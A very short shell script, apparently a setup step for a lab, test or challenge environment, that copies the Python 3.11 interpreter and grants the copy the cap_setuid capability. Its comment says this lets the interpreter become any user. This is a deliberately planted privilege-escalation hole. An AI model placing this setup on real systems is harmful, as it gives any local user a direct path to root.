#!/bin/sh
# An interpreter is given the capability to become any user.
set -eu
cp /usr/bin/python3.11 py
setcap cap_setuid+ep py
